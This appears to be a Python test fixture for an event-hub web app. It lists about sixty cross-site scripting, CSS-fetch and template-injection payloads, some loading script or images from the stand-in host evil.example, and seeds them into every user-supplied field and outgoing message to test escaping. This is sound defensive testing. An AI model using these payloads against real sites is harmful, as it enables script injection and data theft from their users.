"""Sixty texts that try to be more than text.

Each that can run sets `window.__ran`; each that can fetch asks for an address with `FETCHED` in it. `fill` and `send`
put them wherever a hub takes text from people.
"""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path

from hub import clock, outbox
from hub.domain import (
    accounts,
    announcements,
    events,
    festival_events,
    help_tickets,
    locations,
    members,
    mentor_tickets,
    registrations,
    teams,
)
from hub.domain.actors import Actor
from hub.domain.credentials import Keys
from hub.perform import run
from models import JobRow
from tests.people import password_hash

FETCHED = "hostile-fetch"

_RUN = "window.__ran=1"
_PICTURE = f"http://evil.example/{FETCHED}.png"

PAYLOADS = {
    # Elements that run by being there.
    "script": f"<script>{_RUN}</script>",
    "script in capitals": f"<ScRiPt >{_RUN}</sCrIpT >",
    "script from here": f'<script src="/{FETCHED}.js"></script>',
    "script from elsewhere": f'<script src="//evil.example/{FETCHED}.js" async></script>',
    "script module": f'<script type="module">{_RUN}</script>',
    "script never closed": f"<script>{_RUN}//",
    "script within a tag": f"<<scr<script>ipt>{_RUN}</script>",
    "import map": f'<script type="importmap">{{"imports":{{"/x":"/{FETCHED}.js"}}}}</script>',
    # Attributes that run by what happens.
    "img onerror": f'<img src="/{FETCHED}-x" onerror="{_RUN}">',
    "img with a slash": f"<img/src=/{FETCHED}-y/onerror={_RUN}>",
    "body onload": f'<body onload="{_RUN}">',
    "details ontoggle": f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    "input onfocus": f'<input autofocus onfocus="{_RUN}">',
    "video source onerror": f'<video><source onerror="{_RUN}"></video>',
    "audio onerror": f'<audio src="/{FETCHED}.mp3" onerror="{_RUN}" autoplay>',
    "marquee onstart": f'<marquee onstart="{_RUN}">x</marquee>',
    "animation ended": f'<x style="animation:spin 1s" onanimationstart="{_RUN}">x</x>',
    # Pictures that are programs.
    "svg onload": f"<svg onload={_RUN}>",
    "svg script": f"<svg><script>{_RUN}</script></svg>",
    "svg animate": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "svg use": f'<svg><use href="data:image/svg+xml,<svg id=x onload={_RUN}/>#x"/></svg>',
    "svg link": f'<svg><a xlink:href="javascript:{_RUN}"><text y="20">x</text></a></svg>',
    "mathml": f'<math><mtext><table><mglyph><style><!--</style><img src=/{FETCHED}-z onerror="{_RUN}">',
    # Frames and documents within.
    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "iframe javascript": f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    "object": f'<object data="data:text/html,<script>parent.{_RUN}</script>"></object>',
    "embed": f'<embed src="/{FETCHED}.svg">',
    "declared shadow root": f'<b><template shadowrootmode="open"><img src=/{FETCHED}-s onerror={_RUN}></template></b>',
    # Addresses that run.
    "link to javascript": f'<a href="javascript:{_RUN}" autofocus>x</a>',
    "form to javascript": f'<form action="javascript:{_RUN}"><button formaction="javascript:{_RUN}">x</button></form>',
    "bare javascript": f"javascript:{_RUN}",
    "bare javascript in capitals": f"jAvAsCrIpT://%0a{_RUN}",
    "bare data": f"data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==#{FETCHED}",
    "bare address": _PICTURE,
    # Elements that fetch, or lead elsewhere.
    "foreign picture": f'<img src="{_PICTURE}" srcset="{_PICTURE} 2x">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=/{FETCHED}">',
    "base": f'<base href="http://evil.example/{FETCHED}/">',
    "style sheet": f'<link rel="stylesheet" href="/{FETCHED}.css">',
    "prefetch": f'<link rel="prefetch" href="/{FETCHED}"><link rel="manifest" href="/{FETCHED}.json">',
    "css import": f'<style>@import "/{FETCHED}.css";</style>',
    "css in an attribute": f'<div style="background:url({_PICTURE});position:fixed;inset:0">x</div>',
    "css value": f"red;}}*{{background:url(/{FETCHED}.png)}}",
    # Leaving what they stand in.
    "out of a script": f"</script><script>{_RUN}</script>",
    "out of a textarea": f"</textarea></title></noscript></style><img src=/{FETCHED}-t onerror={_RUN}>",
    "out of a comment": f"--!><img src=/{FETCHED}-c onerror={_RUN}><!--",
    "out of double quotes": f'" autofocus onfocus="{_RUN}" onmouseover="{_RUN}" x="',
    "out of single quotes": f"' autofocus onfocus='{_RUN}' x='",
    "out of a string": f"\\\";{_RUN};//';{_RUN};//`;${{{_RUN}}}",
    "out of a line": f"x\u2028{_RUN}\u2029x",
    # What templates and programs would read as their own.
    "jinja": "{{ 7*7 }}{% print(7*7) %}{# x #}{{ ''.__class__.__mro__ }}",
    "htm": f"<${{Component}} onclick=${{() => {_RUN}}} ...${{x}} />",
    "node of preact": f'{{"type":"script","props":{{"dangerouslySetInnerHTML":{{"__html":"{_RUN}"}}}}}}',
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;&amp;amp;&nbsp;",
    "escapes": f"\\u003cscript\\u003e{_RUN}%3Cscript%3E\\x3cscript\\x3e+ADw-script+AD4-",
    "prototype": "__proto__",
    "constructor": "constructor",
    "null": "null",
    # Letters that are not what they look like.
    "bidi": "\u202etxt.exe\u202c \u2067<img>\u2069 \u200f!",
    "invisible": f"<\u200bscript\ufeff>{_RUN}<\u2060/script> \uff1cscript\uff1e",
    "very long": "<b>" + "W" * 180 + "</b>",
}
"""By what each tries. All fit into a name, which is the shortest text that people give."""

DEMOS = "Demos"
LASTS = timedelta(hours=1)


def fill(keys: Keys) -> None:
    """Have people of these names say nothing else, in everything that people may say."""
    people = run(_people)
    olga = run(_organiser)
    run(_say, people, by=olga)
    run(_take_part, people, by=olga)
    run(_join, people, keys)
    run(_fail, people)


def _people() -> list[Actor]:
    return [accounts.sign_up(name=text, username=text, password_hash=password_hash()) for text in PAYLOADS.values()]


def _organiser() -> Actor:
    named = {"name": "Olga", "username": "olga", "email": "olga@example.org"}
    return accounts.create_staff(**named, password_hash=password_hash(), is_superuser=True)


def _say(people: list[Actor], *, by: Actor) -> None:
    start = clock.now()
    for person in people:
        text = person.name
        announcements.announce(message=text, by=by)
        place = locations.add(name=text, rank=1, by=by).public_id
        times = {"start_time": start, "end_time": start + LASTS}
        events.add(location=place, short_description=text, long_description=text, **times, by=by)
        mentor_tickets.create(description=text, location=text, contact=text, lasts=LASTS, by=person)
        help_tickets.ask(title=text, description=text, is_public=True, by=person)


def _take_part(people: list[Actor], *, by: Actor) -> None:
    """As teams that are called so, in an event for teams."""
    hall = locations.add(name="Hall", rank=-1, by=by).public_id
    start = clock.now() + LASTS
    times = {"start_time": start, "end_time": start + LASTS}
    demos = events.add(location=hall, short_description=DEMOS, long_description="", **times, by=by).public_id
    festival_events.change(demos, {"is_for_teams": True, "min_size": 1, "max_size": 2}, by=by)
    for person in people:
        team = teams.create(person.name, by=person).team.public_id
        registrations.register(demos, team_id=team, by=person)


def _join(people: list[Actor], keys: Keys) -> None:
    for person in people:
        members.enrol(person.id)
        said = dict.fromkeys(("name", "fname", "sname", "addr_street", "addr_suburb"), person.name)
        members.change(said, country="AU", keys=keys, by=person)


def _fail(people: list[Actor]) -> None:
    """Jobs that are dead, with reasons that came from outside."""
    now = clock.now()
    dues = {"created_at": now, "due_at": now, "hand_over_at": now, "finished_at": now, "state": "dead"}
    for person in people:
        arguments = json.dumps({"account_id": person.id, "text": person.name})
        JobRow.create(name="push.sync_devices", arguments=arguments, last_error=person.name, **dues)


def send(data_dir: Path) -> None:
    """Have the gateways catch a mail, a text message and a push of each."""
    for text in PAYLOADS.values():
        payload = {"key": text, "html": f"<p>{text}</p>"}
        outbox.put(data_dir, channel="email", to=text, subject=text, text=text, payload=payload)
        outbox.put(data_dir, channel="sms", to=text, subject=None, text=text, payload=None)
        outbox.put(data_dir, channel="push", to=text, subject=None, text=text, payload={text: text})
